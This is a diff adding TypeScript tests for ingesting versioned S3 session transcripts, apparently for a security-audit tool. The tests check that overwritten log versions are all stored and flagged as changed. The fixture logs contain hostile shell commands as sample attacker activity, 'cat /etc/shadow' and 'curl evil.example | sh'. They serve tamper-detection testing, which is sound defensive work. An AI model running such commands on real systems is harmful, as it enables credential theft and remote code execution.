@@ -5,6 +5,7 @@ import { SPILL_BYTES } from '../../src/ingest/transcript-evidence.ts';
 import { writeBatch } from '../../src/store/evidence.ts';
 import { listTranscripts, readTranscriptChunks } from '../../src/store/transcripts.ts';
 import { type S3Fake, startS3 } from '../fakes/s3.ts';
+import { startVersionedS3, type VersionedS3Fake } from '../fakes/s3-versioned.ts';
 import { type Harness, openHarness } from './transcript-harness.ts';
 import { POWERSHELL, scriptLog, shellBody, TARGET } from './transcript-samples.ts';
 
@@ -169,3 +170,67 @@ function startSession(sessionId: string, target: string) {
     raw: '{}',
   };
 }
+
+describe('transcripts-s3 source on a versioned bucket', () => {
+  let v: VersionedS3Fake;
+  beforeEach(async () => {
+    v = await startVersionedS3({ bucket: 'versioned-logs', maxKeys: 2 }); // small pages: a key's versions span pages
+  });
+  afterEach(() => v.close());
+
+  const versionedSource = () =>
+    createTranscriptsS3Source(
+      { bucket: 'versioned-logs', prefix: 'ssm/', forcePathStyle: true, versioned: true },
+      v.client,
+    );
+
+  it('stores every version, even one overwritten between two polls, and flags the change', async () => {
+    const mallory = 'mallory-0123456789abcdef0';
+    const key = `ssm/${mallory}.log`;
+    v.put(`ssm/alice-0a1b2c3d4e5f67890.log`, scriptLog('alice-0a1b2c3d4e5f67890', shellBody(['id'])));
+    const first = v.put(key, scriptLog(mallory, shellBody(['cat /etc/shadow'])));
+    expect((await h.poll(versionedSource())).failures).toEqual([]);
+    const middle = v.put(key, scriptLog(mallory, shellBody(['curl evil.example | sh'])));
+    const last = v.put(key, scriptLog(mallory, shellBody(['ls'])));
+    v.put('ssm/README.txt', 'not a session log');
+    v.remove('ssm/alice-0a1b2c3d4e5f67890.log');
+    const second = await h.poll(versionedSource());
+    expect(second.failures).toEqual([]);
+    expect(second.counters.itemsRead).toBe(2);
+    const versions = listTranscripts(h.store, mallory);
+    expect(versions.map((t) => t.transcriptId.split('#')[1]).sort()).toEqual([first, middle, last].sort());
+    expect(new Set(versions.map((t) => t.sha256)).size).toBe(3);
+    const reads = v.calls.filter((c) => c.operation === 'GetObject');
+    for (const id of [first, middle, last]) expect(reads.map((c) => c.query.versionId)).toContain(id);
+    expect(v.calls.some((c) => c.operation === 'ListObjectsV2')).toBe(false);
+    expect(v.calls.filter((c) => c.operation === 'ListObjectVersions').length).toBeGreaterThan(2);
+    expect((await h.poll(versionedSource())).counters.itemsRead).toBe(0);
+    writeBatch(
+      h.store,
+      { sourceId: 'test', ctEvents: [startSession(mallory, 'i-0000000000000000a')] },
+      h.settings,
+    );
+    const codes = h.rows<{ code: string }>('SELECT code FROM findings').map((r) => r.code);
+    expect(codes).toContain(`object_changed:versioned-logs/${key}`);
+  });
+
+  it('resumes a walk after the last key it finished, so no version of a key split across pages is lost', async () => {
+    const sid = (i: number) => `user${i}-000000000000000${i}`;
+    for (let i = 0; i < 3; i++) v.put(`ssm/${sid(i)}.log`, scriptLog(sid(i), shellBody([`echo ${i}`])));
+    for (let i = 0; i < 3; i++) v.put(`ssm/${sid(1)}.log`, scriptLog(sid(1), shellBody([`echo again ${i}`])));
+    const src = versionedSource();
+    // A walk killed after the first key: its checkpoint names the last key handled in full.
+    writeBatch(h.store, { sourceId: src.id, checkpoint: { after: `ssm/${sid(0)}.log` } }, h.settings);
+    await h.poll(src);
+    expect(v.calls.find((c) => c.operation === 'ListObjectVersions')!.query['key-marker']).toBe(
+      `ssm/${sid(0)}.log`,
+    );
+    expect(listTranscripts(h.store, sid(1))).toHaveLength(4);
+    expect(listTranscripts(h.store, sid(0))).toHaveLength(0);
+    await h.poll(src); // the finished walk starts over from the beginning
+    expect(listTranscripts(h.store, sid(0))).toHaveLength(1);
+    expect(
+      h.rows<{ value: string }>('SELECT value FROM checkpoints WHERE source_id = ?', src.id)[0]!.value,
+    ).toBe('{"after":null}');
+  });
+});
